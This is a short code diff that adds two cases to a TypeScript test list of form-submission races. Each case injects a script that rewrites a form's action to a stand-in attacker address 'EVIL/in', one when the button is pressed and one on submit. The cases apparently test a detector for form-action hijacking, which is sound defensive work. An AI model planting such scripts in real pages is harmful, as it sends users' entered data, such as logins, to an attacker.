@@ -78,6 +78,19 @@ export const RACES: readonly Race[] = [
     html: FORM + script("later(() => document.forms[0].action = 'EVIL/in')"),
   },
   {
+    name: 'the form gets another address as the button is pressed',
+    html:
+      FORM +
+      script(
+        "document.querySelector('button').onmousedown = () => document.forms[0].setAttribute('action', 'EVIL/in')",
+      ),
+  },
+  {
+    name: 'the form gets another address as it is sent',
+    html:
+      FORM + script("document.forms[0].onsubmit = () => document.forms[0].setAttribute('action', 'EVIL/in')"),
+  },
+  {
     name: 'the base of all addresses becomes another one',
     html:
       FORM +
